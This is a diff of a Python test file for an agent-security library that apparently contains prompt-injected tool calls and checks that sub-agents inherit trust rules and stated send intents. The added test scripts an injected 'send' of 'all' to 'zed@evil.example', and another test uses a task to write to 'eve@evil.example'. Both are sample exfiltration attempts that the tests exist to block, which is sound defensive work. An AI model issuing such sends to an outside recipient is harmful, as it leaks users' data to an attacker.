@@ -7,7 +7,6 @@ from contextvars import copy_context
 import pytest
 
 import rightcall as rc
-from rightcall.core.decision import Grant
 from rightcall.core.message import Results
 from rightcall.errors import UsageError
 from rightcall.loop.result import RunResult
@@ -63,7 +62,8 @@ async def test_what_it_read_is_shown_to_it_as_outsiders_words():
 
 async def test_it_pauses_and_goes_on_under_the_same_rules():
     office, journal = Office(), MemoryJournal()
-    helper = child(office, THEFT, THEFT).as_tool()
+    other = call("send", id="other", to=["zed@evil.example"], body="all")
+    helper = child(office, THEFT, other).as_tool()
     agent = caller(office, helper, trust=Rules(), journal=journal)
     paused = RunResult.from_json((await agent.run(PROMPT)).to_json())
     (waiting,) = paused.pending
@@ -86,30 +86,19 @@ async def test_an_agent_two_levels_below_inherits_too_and_one_that_a_function_ru
         """Hand it on."""
         return inner.run_sync(task).text
 
-    facts = rc.Facts(untrusted=False, private=False, reach="user", dangers=(), targets=(), content=())
+    facts = rc.Facts(untrusted=False, private=False, reach="nothing", dangers=(), targets=())
     await caller(office, rc.tool(delegate, facts=facts)).run(PROMPT)
     assert office.done == []
 
 
-@pytest.mark.parametrize(
-    ("grant", "done"),
-    [(("inbox", "helper"), []), (("inbox", "helper", "send"), ["send bob@firm.example: hi"])],
-)
-async def test_what_the_operator_granted_holds_below_as_well(grant, done):
+@pytest.mark.parametrize(("to", "done"), [("ann@home.example", 0), ("bob@firm.example", 1)])
+async def test_what_was_stated_holds_below_as_well_and_is_counted_once(to, done):
     office = Office()
-    rules = Rules(otherwise="deny", grant=Grant(tools=grant))
-    await caller(office, child(office, OWN).as_tool(), trust=rules).run(PROMPT)
-    assert office.done == done
-
-
-async def test_what_the_model_granted_is_of_the_callers_tools_and_leaves_targets_to_be_vouched_for():
-    office = Office()
-    helper = child(office, THEFT, OWN).as_tool()
-    agent = caller(office, helper, trust=Rules(otherwise="deny", grant="model"))
-    granted = reply(call("state_needs", tools=["inbox", "helper"], named=["bob@firm.example"]))
-    model = ScriptedModel([granted, reply(call("inbox")), reply(call("helper", task="x")), "done"])
-    await agent.run(PROMPT, model=model)
-    assert office.done == ["send bob@firm.example: hi"]
+    own = call("send", to=["bob@firm.example"], body="hi")
+    helper = child(office, own, own).as_tool()
+    stated = [rc.Intent("send", to=to, body=rc.trust.Free())]
+    await caller(office, helper).run(PROMPT, intents=stated)
+    assert len(office.done) == done
 
 
 @pytest.mark.parametrize("task", ["Greet bob@firm.example", "Write to eve@evil.example"])
@@ -167,7 +156,7 @@ async def test_a_thread_of_a_tools_own_inherits_with_the_context_that_it_is_give
         """Help."""
         return (await asyncio.to_thread(agent.run_sync, task)).text
 
-    facts = rc.Facts(untrusted=False, private=False, reach="user", dangers=(), targets=())
+    facts = rc.Facts(untrusted=False, private=False, reach="nothing", dangers=(), targets=())
     helper = rc.tool({"copied": copied, "to_thread": to_thread}[how], facts=facts)
     result = await caller(office, helper, first=False).run(PROMPT)
     assert office.done == ["send bob@firm.example: hi"]
